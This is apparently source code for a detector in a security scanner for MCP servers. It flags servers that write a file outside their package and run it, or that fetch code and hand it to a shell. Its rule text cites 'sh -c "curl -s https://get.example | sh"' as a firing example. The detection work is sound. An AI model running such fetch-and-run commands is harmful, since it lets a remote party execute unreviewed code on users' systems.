import type { Event } from '../../base/event-schema.ts';
import type { EvidenceClass, Finding, Severity } from '../../base/finding-schema.ts';
import type { Detector, DetectorContext, OpenDetector } from '../detector.ts';
import type { RuleText } from '../rule-text.ts';
import { behaviourFinding, eventEvidence } from './behaviour-finding.ts';
import { CallBook, toolOfCall } from './calls.ts';
import { isBelowAny, pathText, programName, programOf, wordsOf, writtenPath } from './event-fields.ts';
import { scriptOf } from './processes.ts';
import { type ProgramTable, readPrograms } from './rules-file.ts';

/** Code that came to be while the server ran, and was run: what nobody could read before. */

const dropped: RuleText = {
  id: 'behaviour/dropped-code',
  title: 'Writes a program and runs it',
  severity: 'high',
  axis: 'hostility',
  cwe: ['CWE-506', 'CWE-829'],
  owasp: ['MCP04'],
  what: 'A file outside of the folders of the package was written and then started, or given to an interpreter. Tools that are there to run code, and the work of installers, do not count.',
  why: 'What is run is not what was published: nobody could have looked at it.',
  remediation: 'Do not run this server. Look at the file that it wrote.',
  fires: 'An install script writes /tmp/x and starts it.',
  silent: 'A tool called run_python writes its argument to /tmp and runs it.',
};

const fetched: RuleText = {
  id: 'behaviour/fetched-code',
  title: 'Fetches a program and runs it',
  severity: 'high',
  axis: 'hostility',
  cwe: ['CWE-494'],
  owasp: ['MCP04'],
  what: 'What was downloaded was given to a shell or an interpreter at once, or a file that a downloader wrote was started.',
  why: 'Whoever answers for the address decides what runs, and can answer another way to everybody.',
  remediation: 'Do not run this server; or fetch the file yourself, look at it and put it into the box.',
  fires: 'sh -c "curl -s https://get.example | sh"',
  silent: 'curl writes a picture to a file.',
};

interface WrittenFile {
  readonly event: Event;
  readonly program: string;
}

interface Run {
  readonly rule: RuleText;
  readonly title: string;
  readonly identity: string;
  readonly evidenceClass: EvidenceClass;
  readonly severity: Severity;
  readonly events: readonly Event[];
}

const mostFiles = 5000;
const mostRuns = 64;

class UnpackedCode implements OpenDetector {
  readonly #context: DetectorContext;
  readonly #table: ProgramTable;
  readonly #calls = new CallBook();
  readonly #files = new Map<string, WrittenFile>();
  readonly #runs = new Map<string, Run>();

  constructor(context: DetectorContext, table: ProgramTable) {
    this.#context = context;
    this.#table = table;
  }

  see(event: Event): void {
    const { kind, outcome } = event;
    if (kind === 'message') this.#calls.see(event);
    else if (kind === 'exec') this.#seeStart(event);
    else if (kind !== 'disk-change' && outcome !== 'failed' && outcome !== 'denied') this.#seeWriting(event);
  }

  #seeWriting(event: Event): void {
    const path = writtenPath(event);
    if (path === undefined || path.startsWith('/dev/') || path.startsWith('/proc/')) return;
    if (isBelowAny(path, this.#context.ownFolders) || this.#table.ownWork.test(path)) return;
    const moved = event.kind === 'open' ? undefined : this.#files.get(pathText(event.fields.from) ?? '');
    // Another name for what was there before is nothing new, such as the python of a virtual environment.
    if (event.kind !== 'open' && moved === undefined) return;
    if (this.#files.size >= mostFiles && !this.#files.has(path)) return;
    this.#files.set(path, moved ?? { event, program: programOf(event) });
  }

  #seeStart(event: Event): void {
    if (event.outcome === 'failed') return;
    const command = wordsOf(event).join(' ').slice(0, 4000);
    if (this.#table.fetchAndRun.test(command) && !this.#isOurs(event)) this.#noteFetched(event, command, [event]);
    const path = pathText(event.fields.path);
    const folder = pathText(event.fields.cwd) ?? '/';
    const script = this.#table.interpreters.includes(programName(path ?? '')) ? scriptOf(event) : undefined;
    const whole = script === undefined || script.startsWith('/') ? script : `${folder}/${script}`;
    for (const started of [path, pathText(whole)]) {
      const file = started === undefined ? undefined : this.#files.get(started);
      if (file !== undefined && started !== undefined) this.#noteRun(started, file, event);
    }
  }

  /** It is what a tool is for, or what our call brought along. */
  #isOurs(event: Event): boolean {
    return (
      event.call !== undefined && (this.#table.codeTools.test(toolOfCall(event.call)) || this.#calls.couldLead(event))
    );
  }

  #noteRun(path: string, file: WrittenFile, event: Event): void {
    if (isBelowAny(path, this.#context.givenPaths) || this.#isOurs(event)) return;
    if (this.#table.downloaders.includes(file.program)) {
      this.#noteFetched(event, path, [file.event, event]);
      return;
    }
    // While no call was in flight it was the server's own idea.
    const isUnasked = event.call === undefined || !toolOfCall(event.call);
    const shown = path.replace(/[0-9a-f]{6,}|\d{3,}/g, '*');
    this.#note({
      rule: dropped,
      identity: shown,
      title: `Writes ${path} and runs it${event.phase === 'install' ? ' while it is installed' : ''}`,
      evidenceClass: isUnasked ? 'B' : 'C',
      severity: isUnasked ? 'high' : 'medium',
      events: [file.event, event],
    });
  }

  #noteFetched(event: Event, what: string, events: readonly Event[]): void {
    this.#note({
      rule: fetched,
      identity: what.slice(0, 200),
      title: `Fetches code and runs it${event.phase === 'install' ? ' while it is installed' : ''}: ${what}`,
      evidenceClass: 'B',
      severity: 'high',
      events,
    });
  }

  #note(run: Run): void {
    const key = `${run.rule.id}\n${run.identity}`;
    if (this.#runs.size < mostRuns && !this.#runs.has(key)) this.#runs.set(key, run);
  }

  findings(): readonly Finding[] {
    return [...this.#runs.values()].map(({ rule, identity, title, evidenceClass, severity, events }) =>
      behaviourFinding(rule, {
        identity: [identity],
        title,
        evidenceClass,
        severity,
        attack: ['T1105'],
        evidence: events.map((event) => eventEvidence(event, `${event.kind} ${writtenPath(event) ?? ''}`.trim())),
      }),
    );
  }
}

export const unpackedCode: Detector = {
  id: 'unpacked-code',
  title: 'Code that was written or fetched, and run',
  rules: [dropped, fetched],
  open: (context) => new UnpackedCode(context, readPrograms()),
};
